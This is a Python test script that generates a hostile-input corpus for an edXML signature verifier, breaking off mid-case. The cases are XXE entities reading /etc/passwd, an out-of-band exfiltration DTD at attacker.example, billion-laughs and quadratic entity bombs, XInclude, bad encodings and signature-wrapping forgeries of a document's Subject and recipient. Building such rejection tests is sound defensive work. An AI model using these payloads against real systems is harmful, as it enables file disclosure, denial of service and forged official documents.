"""Build the hostile-input corpus: every file in `corpus/` and its `MANIFEST.json`.

    python tests/hostile/make_corpus.py             # rewrite tests/hostile/corpus/
    python tests/hostile/make_corpus.py --out DIR   # write the corpus somewhere else
    python tests/hostile/make_corpus.py --new-keys  # first replace tests/hostile/keys/ (then
                                                    # regenerate and commit both together)

Every file starts from one small valid envelope (`base_envelope`: the real sample
`tests/edxml/samples/lgsp_edoc_3_recipients.edxml` with LF line ends, its placeholder
Signature dropped and its attachment shrunk) and carries one attack, so the rejection a
file must produce can only come from that attack. Signed files are signed here
with the committed test identities in `keys/` (ECDSA P-256 by default, RSA where an RSA
algorithm is the point): the signature values are genuine, and only the attack makes
verification fail (the tests check the SignatureValue of every signed case against its
signer's key).

Deterministic: the same keys give the same bytes, except inside `SignatureValue` of ECDSA
signatures (ECDSA is randomized); RSA and HMAC signatures are reproduced byte for byte.
"""

from __future__ import annotations

import argparse
import base64
import copy
import hashlib
import hmac
import json
import re
import sys
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree
from signxml.algorithms import (
    CanonicalizationMethod,
    DigestAlgorithm,
    SignatureConstructionMethod,
    SignatureMethod,
)
from signxml.signer import XMLSigner

from signing.devca import create_dev_ca, issue_agency_certificate
from signing.dsig import placeholder
from signing.keys import CertifiedKey, certificate_pem, load_certified_key, private_key_pem
from signing.xmldsig import sign_envelope

Element = Any
"""An lxml element (lxml ships no type information)."""

HERE = Path(__file__).resolve().parent
REPOSITORY = HERE.parents[1]
CORPUS_DIR = HERE / "corpus"
KEYS_DIR = HERE / "keys"
MANIFEST = "MANIFEST.json"
SAMPLE = REPOSITORY / "tests" / "edxml" / "samples" / "lgsp_edoc_3_recipients.edxml"

G22 = "000.00.00.G22"
RECEIPT_TIME = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
"""Every verification of the corpus happens at this receipt time."""
CA_VALIDITY = (datetime(2019, 1, 1, tzinfo=UTC), datetime(2046, 1, 1, tzinfo=UTC))
AGENCY_VALIDITY = (datetime(2026, 1, 1, tzinfo=UTC), datetime(2046, 1, 1, tzinfo=UTC))
EXPIRED_VALIDITY = (datetime(2020, 1, 1, tzinfo=UTC), datetime(2021, 1, 1, tzinfo=UTC))
NOT_YET_VALIDITY = (datetime(2040, 1, 1, tzinfo=UTC), datetime(2041, 1, 1, tzinfo=UTC))

IDENTITIES = (
    "ca",
    "agency-ec",
    "agency-rsa",
    "agency-rsa-1024",
    "expired",
    "not-yet-valid",
    "no-digital-signature",
    "attacker-ca",
    "attacker",
)
TRUST_ROOTS = ("ca",)

ED = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
DS = "http://www.w3.org/2000/09/xmldsig#"
XSL = "http://www.w3.org/1999/XSL/Transform"
XML_NS = "http://www.w3.org/XML/1998/namespace"
NS = {"ed": ED, "ds": DS}

ENVELOPED = DS + "enveloped-signature"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_C14N_WITH_COMMENTS = EXC_C14N + "WithComments"
XPATH_FILTER = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
SHA1 = DS + "sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"
RSA_SHA1 = DS + "rsa-sha1"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_MD5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"

_DIGESTS: dict[str, Callable[[bytes], bytes]] = {
    SHA1: lambda data: hashlib.sha1(data).digest(),
    SHA256: lambda data: hashlib.sha256(data).digest(),
    MD5: lambda data: hashlib.md5(data).digest(),
}
_SIGNATURE_HASHES: dict[str, hashes.HashAlgorithm] = {
    RSA_SHA1: hashes.SHA1(),
    RSA_SHA256: hashes.SHA256(),
    RSA_MD5: hashes.MD5(),
    ECDSA_SHA256: hashes.SHA256(),
    HMAC_SHA256: hashes.SHA256(),
}

ATTACHMENT_PAYLOAD = b"edoc-axis hostile-input corpus: a small test attachment\n"
FORGED_SUBJECT = "Văn bản giả mạo: chuyển toàn bộ kinh phí cho đơn vị khác"
"""What an attacker writes where the signed Subject was."""
FORGED_RECIPIENT = "000.00.00.H99"

Stage = Literal["parse", "verify", "accept"]


# --------------------------------------------------------------------------------------------
# Keys


def create_keys(directory: Path) -> None:
    """Generate the test identities (random keys) and write their PEMs to `directory`."""
    ca = create_dev_ca(
        common_name="edoc-axis hostile-corpus test CA",
        not_before=CA_VALIDITY[0],
        not_after=CA_VALIDITY[1],
    )
    attacker_ca = create_dev_ca(
        common_name="attacker CA (not a trust root)",
        not_before=CA_VALIDITY[0],
        not_after=CA_VALIDITY[1],
    )

    def agency(issuer: CertifiedKey, window: tuple[datetime, datetime], **kw: Any) -> CertifiedKey:
        return issue_agency_certificate(
            issuer,
            G22,
            organ_name="Văn phòng Chính phủ",
            not_before=window[0],
            not_after=window[1],
            **kw,
        )

    identities = {
        "ca": ca,
        "agency-ec": agency(ca, AGENCY_VALIDITY),
        "agency-rsa": agency(ca, AGENCY_VALIDITY, key_kind="rsa-2048"),
        # devca makes no key under 2048 bits: the weak one is generated here.
        "agency-rsa-1024": agency(
            ca, AGENCY_VALIDITY, key=rsa.generate_private_key(public_exponent=65537, key_size=1024)
        ),
        "expired": agency(ca, EXPIRED_VALIDITY),
        "not-yet-valid": agency(ca, NOT_YET_VALIDITY),
        "no-digital-signature": agency(ca, AGENCY_VALIDITY, digital_signature=False),
        "attacker-ca": attacker_ca,
        "attacker": agency(attacker_ca, AGENCY_VALIDITY),
    }
    directory.mkdir(parents=True, exist_ok=True)
    for name, identity in identities.items():
        (directory / f"{name}.key.pem").write_bytes(private_key_pem(identity.key))
        (directory / f"{name}.cert.pem").write_bytes(
            b"".join(certificate_pem(c) for c in identity.certificates)
        )


def load_keys(directory: Path = KEYS_DIR) -> dict[str, CertifiedKey]:
    """The committed test identities by name (see IDENTITIES)."""
    return {
        name: load_certified_key(directory / f"{name}.key.pem", directory / f"{name}.cert.pem")
        for name in IDENTITIES
    }


# --------------------------------------------------------------------------------------------
# XML helpers


def parse(data: bytes) -> Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
    return etree.fromstring(data, parser=parser)


def serialize(root: Element) -> bytes:
    return bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8"))


def ds(local: str) -> str:
    return f"{{{DS}}}{local}"


def header_of(root: Element) -> Element:
    return root.find("ed:edXMLEnvelope/ed:edXMLHeader", NS)


def message_header_of(root: Element) -> Element:
    return root.find("ed:edXMLEnvelope/ed:edXMLHeader/ed:MessageHeader", NS)


def signature_of(root: Element) -> Element:
    return header_of(root).find("ds:Signature", NS)


def line_of(data: bytes, marker: bytes, occurrence: int = 1) -> int:
    """1-based line of the `occurrence`-th `marker` in `data`."""
    position = -1
    for _ in range(occurrence):
        position = data.index(marker, position + 1)
    return data.count(b"\n", 0, position) + 1


def replace_once(data: bytes, old: bytes, new: bytes) -> bytes:
    if data.count(old) < 1:
        raise ValueError(f"{old!r} is not in the document")
    return data.replace(old, new, 1)


def remove_keeping_tail(element: Element) -> None:
    """Remove `element`, leaving its tail text in place: what the enveloped-signature
    transform and an XPath filter do to the node-set (text nodes around stay)."""
    parent = element.getparent()
    previous = element.getprevious()
    if element.tail:
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
    parent.remove(element)


def append_last(parent: Element, element: Element) -> None:
    """Append `element` as the last child, indented like its siblings (as signing does)."""
    if len(parent):
        last = parent[-1]
        before = last.getprevious()
        element.tail = last.tail
        last.tail = before.tail if before is not None else parent.text
    parent.append(element)


def exc_c14n(element: Element, *, with_comments: bool = False) -> bytes:
    """Exclusive c14n of `element` as a detached copy (how signxml canonicalizes a subtree)."""
    detached = parse(etree.tostring(element))
    return bytes(
        etree.tostring(detached, method="c14n", exclusive=True, with_comments=with_comments)
    )


def forge(root: Element) -> None:
    """What an attacker changes: the Subject and the first recipient."""
    header = message_header_of(root)
    header.find("ed:Subject", NS).text = FORGED_SUBJECT
    header.find("ed:To/ed:OrganId", NS).text = FORGED_RECIPIENT


# --------------------------------------------------------------------------------------------
# The base envelope


def base_envelope() -> bytes:
    """The real sample, made small: LF line ends, no placeholder Signature (real files carry
    one in the edXML namespace that cannot verify), a 57-byte attachment instead of 10 KB.
    Every header field and the line layout of the sample stay as they are."""
    data = SAMPLE.read_bytes().replace(b"\r\n", b"\n")
    data, count = re.subn(rb"\n *<Signature>.*?</Signature>", b"", data, count=1, flags=re.S)
    assert count == 1, "the sample's placeholder Signature was not found"
    payload = base64.b64encode(ATTACHMENT_PAYLOAD)
    data, count = re.subn(
        rb"(<edXML:ContentTransferEncoded[^>]*>)[^<]*(</)", rb"\g<1>" + payload + rb"\2", data
    )
    assert count == 1, "the sample's attachment was not found"
    return data


# --------------------------------------------------------------------------------------------
# Signing by hand (for what sign_envelope refuses to make)


@dataclass(frozen=True)
class Transform:
    algorithm: str
    xpath: str | None = None
    stylesheet: bytes | None = None


@dataclass(frozen=True)
class Ref:
    """One ds:Reference; `octets(root, signature)` gives what its digest covers."""

    uri: str | None
    transforms: tuple[Transform, ...]
    octets: Callable[[Element, Element], bytes]
    digest: str = SHA256


STANDARD_TRANSFORMS = (Transform(ENVELOPED), Transform(EXC_C14N))


def same_in_copy(root: Element, copied: Element, element: Element) -> Element:
    """The element of `copied` (a copy of `root`) standing where `element` stands in `root`."""
    indexes = []
    while element is not root:
        parent = element.getparent()
        indexes.append(parent.index(element))
        element = parent
    for index in reversed(indexes):
        copied = copied[index]
    return copied


def enveloped_octets(root: Element, signature: Element) -> bytes:
    """URI="" with enveloped-signature then exclusive c14n: the document without the
    Signature (its surrounding whitespace kept), comments left out."""
    copied = parse(etree.tostring(root))
    remove_keeping_tail(same_in_copy(root, copied, signature))
    return exc_c14n(copied)


def octets_of_id(attribute: str, value: str) -> Callable[[Element, Element], bytes]:
    """URI="#value": the element carrying `attribute`=value, exclusive c14n."""

    def octets(root: Element, signature: Element) -> bytes:
        found = [e for e in root.iter("*") if e.get(attribute) == value]
        assert len(found) == 1, f"{attribute}={value!r} must name one element"
        return exc_c14n(found[0])

    return octets


def raw_signature(key: Any, method: str, data: bytes) -> bytes:
    """The SignatureValue octets of `data` under `method` (ECDSA as r||s, as XMLDSig says)."""
    algorithm = _SIGNATURE_HASHES[method]
    if method == HMAC_SHA256:
        return hmac.new(key, data, hashlib.sha256).digest()
    if isinstance(key, rsa.RSAPrivateKey):
        return key.sign(data, padding.PKCS1v15(), algorithm)
    if isinstance(key, ec.EllipticCurvePrivateKey):
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(algorithm)))
        size = (key.curve.key_size + 7) // 8
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")
    raise TypeError(f"cannot sign with {type(key).__name__}")


def handmade_signature(
    root: Element,
    *,
    key: Any,
    method: str,
    references: Sequence[Ref],
    certificates: Sequence[Any] = (),
    parent: Element | None = None,
    objects: Sequence[Element] = (),
) -> Element:
    """Insert a genuinely signed ds:Signature into `root` (as the last child of `parent`,
    by default edXMLHeader): digests over what each reference covers, then the
    SignatureValue over the exclusive c14n of SignedInfo."""
    signature = etree.Element(ds("Signature"), nsmap={"ds": DS})
    signed_info = etree.SubElement(signature, ds("SignedInfo"))
    etree.SubElement(signed_info, ds("CanonicalizationMethod"), Algorithm=EXC_C14N)
    etree.SubElement(signed_info, ds("SignatureMethod"), Algorithm=method)
    digest_values = []
    for ref in references:
        reference = etree.SubElement(signed_info, ds("Reference"))
        if ref.uri is not None:
            reference.set("URI", ref.uri)
        if ref.transforms:
            transforms = etree.SubElement(reference, ds("Transforms"))
            for transform in ref.transforms:
                element = etree.SubElement(
                    transforms, ds("Transform"), Algorithm=transform.algorithm
                )
                if transform.xpath is not None:
                    xpath = etree.SubElement(element, ds("XPath"), nsmap={"edXML": ED})
                    xpath.text = transform.xpath
                if transform.stylesheet is not None:
                    element.append(parse(transform.stylesheet))
        etree.SubElement(reference, ds("DigestMethod"), Algorithm=ref.digest)
        digest_values.append(etree.SubElement(reference, ds("DigestValue")))
    value = etree.SubElement(signature, ds("SignatureValue"))
    if certificates:
        x509_data = etree.SubElement(etree.SubElement(signature, ds("KeyInfo")), ds("X509Data"))
        for certificate in certificates:
            etree.SubElement(x509_data, ds("X509Certificate")).text = base64.b64encode(
                certificate.public_bytes(Encoding.DER)
            ).decode("ascii")
    for item in objects:
        signature.append(item)
    append_last(parent if parent is not None else header_of(root), signature)
    for ref, digest_value in zip(references, digest_values, strict=True):
        octets = ref.octets(root, signature)
        digest_value.text = base64.b64encode(_DIGESTS[ref.digest](octets)).decode("ascii")
    value.text = base64.b64encode(raw_signature(key, method, exc_c14n(signed_info))).decode("ascii")
    return signature


def signxml_signature(
    data: bytes,
    *,
    key: Any,
    method: SignatureMethod,
    digest: DigestAlgorithm,
    certificates: Sequence[Any] | None,
) -> bytes:
    """Sign with signxml itself (as agency software would), Signature last in edXMLHeader."""
    root = parse(data)
    append_last(header_of(root), placeholder())
    signer = XMLSigner(
        method=SignatureConstructionMethod.enveloped,
        signature_algorithm=method,
        digest_algorithm=digest,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    return serialize(signer.sign(root, key=key, cert=list(certificates) if certificates else None))


# --------------------------------------------------------------------------------------------
# The cases


@dataclass(frozen=True)
class SignedField:
    """A field read after verification (`field`: a dotted path into the model) whose text
    holds a comment in the received bytes: a naive reader of `xpath` gets `truncated`."""

    field: str
    xpath: str
    full: str
    truncated: str


@dataclass
class Case:
    """One corpus file and the rejection it must produce.

    stage: `parse` (parse_envelope raises EnvelopeError `code`), `verify` (parse_envelope
    accepts, verify_envelope raises SignatureError `code`) or `accept` (both accept: the
    controls). `element`/`line`: where a parse-stage error must point. `verify_code`: what
    verify_envelope says when handed a parse-stage file directly (defence in depth).
    `verify_code` "accept": the signature is genuine and only the reading refuses the file.
    `registered`: the sender's registered certificates for verification. `allow_sha1`: the
    result with the legacy flag set ("accept" or a code). `accept_at`: a receipt time at which
    the file verifies (certificate-window cases: only the time is wrong). `signer`: whose key
    made the SignatureValue; `hmac_key_of`: whose certificate PEM keyed an HMAC one (the tests
    check both are genuine).
    `naive_accepts`: signxml with its permissive defaults (signature anywhere, any number of
    references, Id lookups) accepts the file with the signer's certificate pinned, so the
    attack is live and only the axis's pinning refuses it.
    """

    name: str
    description: str
    stage: Stage
    code: str | None
    data: bytes = field(repr=False)
    extension: str = "xml"
    element: str | None = None
    line: int | None = None
    verify_code: str | None = None
    registered: tuple[str, ...] = ("agency-ec",)
    allow_sha1: str | None = None
    accept_at: str | None = None
    signer: str | None = None
    hmac_key_of: str | None = None
    naive_accepts: bool = False
    deterministic: bool = True
    signed_fields: tuple[SignedField, ...] = ()

    @property
    def file(self) -> str:
        return f"{self.name}.{self.extension}"

    def manifest_entry(self) -> dict[str, Any]:
        entry: dict[str, Any] = {
            "file": self.file,
            "description": self.description,
            "stage": self.stage,
            "code": self.code,
        }
        optional = {
            "element": self.element,
            "line": self.line,
            "verify_code": self.verify_code,
            "allow_sha1": self.allow_sha1,
            "accept_at": self.accept_at,
            "signer": self.signer,
            "hmac_key_of": self.hmac_key_of,
        }
        entry.update({key: value for key, value in optional.items() if value is not None})
        entry["registered"] = list(self.registered)
        entry["naive_accepts"] = self.naive_accepts
        entry["deterministic"] = self.deterministic
        if self.signed_fields:
            entry["signed_fields"] = [asdict(f) for f in self.signed_fields]
        return entry


class Builder:
    """Makes every case from the base envelope and the test identities."""

    def __init__(self, keys: dict[str, CertifiedKey]) -> None:
        self.keys = keys
        self.base = base_envelope()
        self.cases: list[Case] = []
        self.signed_ec = sign_envelope(self.base, keys["agency-ec"])
        self.signed_rsa = sign_envelope(self.base, keys["agency-rsa"])

    def add(self, case: Case) -> None:
        if any(existing.name == case.name for existing in self.cases):
            raise ValueError(f"two cases are named {case.name}")
        # ECDSA signatures are randomized: such files are reproduced but for SignatureValue.
        case.deterministic = b"#ecdsa-sha" not in case.data
        self.cases.append(case)

    def build(self) -> list[Case]:
        self.controls()
        self.markup()
        self.encoding()
        self.wrapping()
        self.id_confusion()
        self.key_info()
        self.algorithms()
        self.references_and_transforms()
        self.tampering()
        self.certificates()
        return self.cases

    # -- controls ----------------------------------------------------------------------------

    def controls(self) -> None:
        self.add(
            Case(
                "control_signed_ec",
                "control: the base envelope signed by the registered ECDSA P-256 certificate",
                "accept",
                None,
                self.signed_ec,
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        self.add(
            Case(
                "control_signed_rsa",
                "control: the base envelope signed RSA-SHA256 by the registered RSA certificate",
                "accept",
                None,
                self.signed_rsa,
                registered=("agency-rsa",),
                signer="agency-rsa",
                naive_accepts=True,
            )
        )
        # Comments inside signed text: c14n drops them, so the signature verifies; a reader of
        # lxml's `.text` would see only the part before the comment, so the axis refuses them
        # (hidden_markup) rather than read a value its recipients may read otherwise.
        data = self.signed_ec
        document_id = "000.00.00.G22,2015/09/30,7816/VPCP-TTĐT"
        data = replace_once(
            data,
            b"<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP",
            b"<edXML:DocumentId>000.00.00.G22,2015/09/30,7816<!-- injected -->/VPCP",
        )
        data = replace_once(
            data,
            b"<edXML:OrganId>000.00.00.H41</edXML:OrganId>",
            b"<edXML:OrganId>000.00.00.H4<!---->1</edXML:OrganId>",
        )
        subject = "V/v kết nối, liên thông phần mềm quản lý văn bản"
        data = replace_once(
            data,
            "<edXML:Subject>V/v kết nối, liên thông".encode(),
            "<edXML:Subject>V/v kết nối<!--, bỏ qua -->, liên thông".encode(),
        )
        self.add(
            Case(
                "comment_injection_in_signed_text",
                "comments inserted after signing inside DocumentId, a To/OrganId and Subject: "
                "they verify (c14n drops comments) and the signed text reads whole, but a "
                "`.text` reader would not: refused at the first one read",
                "parse",
                "hidden_markup",
                data,
                element="OrganId",
                line=line_of(data, b"<!---->"),
                verify_code="accept",
                signer="agency-ec",
                naive_accepts=True,
                signed_fields=(
                    SignedField(
                        "header.document_id",
                        "ed:edXMLEnvelope/ed:edXMLHeader/ed:MessageHeader/ed:DocumentId",
                        document_id,
                        "000.00.00.G22,2015/09/30,7816",
                    ),
                    SignedField(
                        "header.to.0.organ_id",
                        "ed:edXMLEnvelope/ed:edXMLHeader/ed:MessageHeader/ed:To/ed:OrganId",
                        "000.00.00.H41",
                        "000.00.00.H4",
                    ),
                    SignedField(
                        "header.subject",
                        "ed:edXMLEnvelope/ed:edXMLHeader/ed:MessageHeader/ed:Subject",
                        subject,
                        "V/v kết nối",
                    ),
                ),
            )
        )

    # -- markup: DTDs, entities, bounds --------------------------------------------------------

    def _with_doctype(self, doctype: bytes, subject_text: bytes | None = None) -> bytes:
        data = replace_once(
            self.base,
            b'<?xml version="1.0" encoding="UTF-8"?>\n',
            b'<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + b"\n",
        )
        if subject_text is not None:
            data = re.sub(
                rb"<edXML:Subject>[^<]*</edXML:Subject>",
                b"<edXML:Subject>" + subject_text + b"</edXML:Subject>",
                data,
                count=1,
            )
        return data

    def _doctype_case(self, name: str, description: str, data: bytes) -> None:
        self.add(
            Case(
                name,
                description,
                "parse",
                "dtd_forbidden",
                data,
                line=line_of(data, b"<!DOCTYPE"),
                verify_code="malformed",
            )
        )

    def markup(self) -> None:
        self._doctype_case(
            "xxe_external_entity",
            'external entity SYSTEM "file:///etc/passwd" used in Subject',
            self._with_doctype(
                b'<!DOCTYPE edXML [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>', b"&xxe;"
            ),
        )
        self._doctype_case(
            "xxe_parameter_entity",
            "parameter entity fetching an external DTD (out-of-band exfiltration pattern)",
            self._with_doctype(
                b"<!DOCTYPE edXML [\n"
                b'  <!ENTITY % file SYSTEM "file:///etc/hostname">\n'
                b'  <!ENTITY % dtd SYSTEM "http://attacker.example/exfiltrate.dtd">\n'
                b"  %dtd;\n]>",
                b"&send;",
            ),
        )
        self._doctype_case(
            "external_dtd",
            'DOCTYPE with an external DTD SYSTEM "http://attacker.example/edxml.dtd"',
            self._with_doctype(b'<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">'),
        )
        self._doctype_case(
            "external_dtd_local_file",
            'DOCTYPE with an external DTD SYSTEM "file:///etc/passwd" (a local file)',
            self._with_doctype(b'<!DOCTYPE edXML SYSTEM "file:///etc/passwd">'),
        )
        lol = [b'  <!ENTITY lol0 "lol">']
        lol += [b'  <!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
        self._doctype_case(
            "billion_laughs",
            "billion laughs: 10 levels of entities expanding tenfold (10^9 'lol's)",
            self._with_doctype(b"<!DOCTYPE edXML [\n" + b"\n".join(lol) + b"\n]>", b"&lol9;"),
        )
        self._doctype_case(
            "quadratic_blowup",
            "quadratic blow-up: one 20,000-byte entity referenced 2,000 times (40 MB)",
            self._with_doctype(
                b'<!DOCTYPE edXML [\n  <!ENTITY a "' + b"A" * 20_000 + b'">\n]>', b"&a;" * 2_000
            ),
        )
        self._doctype_case(
            "bare_doctype",
            "a bare DOCTYPE with no declarations",
            self._with_doctype(b"<!DOCTYPE edXML>"),
        )
        undeclared = re.sub(
            rb"<edXML:Subject>[^<]*</edXML:Subject>",
            b"<edXML:Subject>&xxe;</edXML:Subject>",
            self.base,
            count=1,
        )
        self.add(
            Case(
                "undeclared_entity",
                "an entity reference &xxe; with no DOCTYPE declaring it",
                "parse",
                "not_well_formed",
                undeclared,
                line=line_of(undeclared, b"&xxe;"),
                verify_code="malformed",
            )
        )
        xinclude = re.sub(
            rb"<edXML:Subject>[^<]*</edXML:Subject>",
            b'<edXML:Subject><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="file:///etc/passwd" parse="text"/></edXML:Subject>',
            self.base,
            count=1,
        )
        self.add(
            Case(
                "xinclude_passwd",
                "an XInclude of file:///etc/passwd inside Subject (never processed)",
                "parse",
                "schema_invalid",
                xinclude,
                element="Subject",
                line=line_of(xinclude, b"<xi:include"),
                verify_code="missing_signature",
            )
        )
        nesting = 10_000
        deep = re.sub(
            rb"<edXML:Subject>[^<]*</edXML:Subject>",
            b"<edXML:Subject>" + b"<Nest>" * nesting + b"</Nest>" * nesting + b"</edXML:Subject>",
            self.base,
            count=1,
        )
        self.add(
            Case(
                "deep_nesting_10000",
                "10,000 nested elements inside Subject (default limit: depth 64)",
                "parse",
                "too_deep",
                deep,
                element="Nest",
                line=line_of(deep, b"<Nest>"),
                verify_code="malformed",
            )
        )
        attributes = b"".join(b' a%d="x"' % i for i in range(1_000))
        flood = replace_once(
            self.base,
            b'<edXML:edXMLManifest version="1.0">',
            b'<edXML:edXMLManifest version="1.0"' + attributes + b">",
        )
        self.add(
            Case(
                "attribute_flood",
                "1,000 attributes on one start tag (default limit: 32)",
                "parse",
                "too_many_attributes",
                flood,
                element="edXMLManifest",
                line=line_of(flood, b"<edXML:edXMLManifest"),
                verify_code="missing_signature",
            )
        )
        truncated = self.signed_ec[: self.signed_ec.index(b"<edXML:edXMLBody>")]
        self.add(
            Case(
                "truncated",
                "a signed envelope cut off in the middle (no closing tags)",
                "parse",
                "not_well_formed",
                truncated,
                line=truncated.count(b"\n") + 1,
                verify_code="malformed",
            )
        )
        self.add(
            Case(
                "empty",
                "zero bytes",
                "parse",
                "not_well_formed",
                b"",
                "bin",
                verify_code="malformed",
            )
        )

    # -- encoding ------------------------------------------------------------------------------

    def encoding(self) -> None:
        bad = replace_once(
            self.base,
            "<edXML:Subject>V/v kết nối".encode(),
            b"<edXML:Subject>V/v k\xc3\x28" + " nối".encode(),
        )
        self.add(
            Case(
                "invalid_utf8",
                "an invalid UTF-8 sequence (0xC3 0x28) inside Subject",
                "parse",
                "invalid_encoding",
                bad,
                line=line_of(bad, b"\xc3\x28"),
                verify_code="malformed",
            )
        )
        overlong = replace_once(self.base, b"<edXML:Subject>V/v", b"<edXML:Subject>\xc0\xafV/v")
        self.add(
            Case(
                "overlong_utf8",
                "an overlong UTF-8 encoding of '/' (0xC0 0xAF) inside Subject",
                "parse",
                "invalid_encoding",
                overlong,
                line=line_of(overlong, b"\xc0\xaf"),
                verify_code="malformed",
            )
        )
        utf16 = (
            self.base.decode("utf-8")
            .replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
            .encode("utf-16")
        )
        self.add(
            Case(
                "utf16",
                "the base envelope in UTF-16 with a BOM (only UTF-8 is accepted)",
                "parse",
                "invalid_encoding",
                utf16,
                verify_code="missing_signature",
            )
        )
        latin1 = replace_once(self.base, b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
        self.add(
            Case(
                "declared_latin1",
                'UTF-8 bytes under an encoding="ISO-8859-1" declaration',
                "parse",
                "invalid_encoding",
                latin1,
                line=1,
                verify_code="missing_signature",
            )
        )
        binary = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
        self.add(
            Case(
                "binary_junk",
                "a PNG header and binary bytes instead of XML",
                "parse",
                "invalid_encoding",
                binary,
                "bin",
                line=1,
                verify_code="malformed",
            )
        )

    # -- signature wrapping --------------------------------------------------------------------

    def _id_signed(self, attribute: str, value: str = "hdr") -> Element:
        """The base envelope with `attribute`=value on MessageHeader, signed by the agency
        with a Reference URI="#value" (no enveloped transform: the Signature is outside)."""
        root = parse(self.base)
        message_header_of(root).set(attribute, value)
        handmade_signature(
            root,
            key=self.keys["agency-ec"].key,
            method=ECDSA_SHA256,
            references=[Ref("#" + value, (Transform(EXC_C14N),), octets_of_id(attribute, value))],
            certificates=[self.keys["agency-ec"].certificate],
        )
        return root

    def _park_and_forge(self, root: Element, container: Element, *, keep_id: str | None) -> None:
        """Move the signed MessageHeader into `container`, put a forged copy in its place."""
        original = message_header_of(root)
        forged = copy.deepcopy(original)
        for name in list(forged.attrib):
            if name != keep_id:
                del forged.attrib[name]
        original.addprevious(forged)
        forged.tail = original.tail
        header_of(root).remove(original)
        original.tail = None
        container.append(original)
        forge_root = forged.getroottree().getroot()
        forge(forge_root)

    def wrapping(self) -> None:
        # URI="": the signed MessageHeader moved into ds:Object, a forged one in its place.
        root = parse(self.signed_ec)
        obj = etree.SubElement(signature_of(root), ds("Object"))
        self._park_and_forge(root, obj, keep_id=None)
        self.add(
            Case(
                "wrap_object_uri_empty",
                "XSW: the signed MessageHeader moved into ds:Signature/ds:Object, a forged "
                'MessageHeader in its place (Reference URI="")',
                "verify",
                "invalid_signature",
                serialize(root),
                signer="agency-ec",
            )
        )
        # Id reference: the classic XSW that naive verifiers accept.
        root = self._id_signed("Id")
        obj = etree.SubElement(signature_of(root), ds("Object"))
        self._park_and_forge(root, obj, keep_id=None)
        self.add(
            Case(
                "wrap_object_id_reference",
                'XSW: Reference URI="#hdr" to MessageHeader Id="hdr", the signed header moved '
                "into ds:Object, a forged header without Id in its place",
                "verify",
                "bad_reference",
                serialize(root),
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        # The same into an extensions element in edXMLHeader.
        root = self._id_signed("Id")
        extensions = etree.Element(
            "{urn:example:attacker}Extensions", nsmap={"ext": "urn:example:attacker"}
        )
        signature_of(root).addprevious(extensions)
        extensions.tail = "\n      "
        self._park_and_forge(root, extensions, keep_id=None)
        data = serialize(root)
        self.add(
            Case(
                "wrap_extensions_element",
                'XSW: Reference URI="#hdr", the signed MessageHeader moved into an '
                "ext:Extensions element of edXMLHeader, a forged header in its place",
                "parse",
                "schema_invalid",
                data,
                element="Extensions",
                line=line_of(data, b"<ext:Extensions"),
                verify_code="bad_reference",
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        # The whole signed document under a new root.
        root = parse(self.signed_ec)
        wrapper = etree.Element(
            "{urn:example:attacker}Wrapper", nsmap={"w": "urn:example:attacker"}
        )
        wrapper.text = "\n"
        wrapper.append(root)
        root.tail = "\n"
        data = serialize(wrapper)
        self.add(
            Case(
                "wrap_new_root",
                "the whole signed document wrapped under a new root element w:Wrapper",
                "parse",
                "schema_invalid",
                data,
                element="Wrapper",
                line=line_of(data, b"<w:Wrapper"),
                verify_code="malformed",
                signer="agency-ec",
            )
        )
        # A second Signature: the attacker's own, over a forged copy.
        forged = parse(self.base)
        forge(forged)
        attacker_signed = parse(sign_envelope(serialize(forged), self.keys["attacker"]))
        root = parse(self.signed_ec)
        obj = etree.SubElement(signature_of(root), ds("Object"))
        obj.append(copy.deepcopy(signature_of(attacker_signed)))
        self.add(
            Case(
                "second_signature_in_object",
                "a second ds:Signature (the attacker's, over a forged copy) inside the "
                "sender's ds:Object",
                "verify",
                "multiple_signatures",
                serialize(root),
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        root = parse(self.signed_ec)
        append_last(header_of(root), copy.deepcopy(signature_of(attacker_signed)))
        data = serialize(root)
        self.add(
            Case(
                "second_signature_in_header",
                "a second ds:Signature (the attacker's) after the sender's in edXMLHeader",
                "parse",
                "schema_invalid",
                data,
                element="Signature",
                line=line_of(data, b"<ds:Signature xmlns", 2),
                verify_code="multiple_signatures",
                signer="agency-ec",
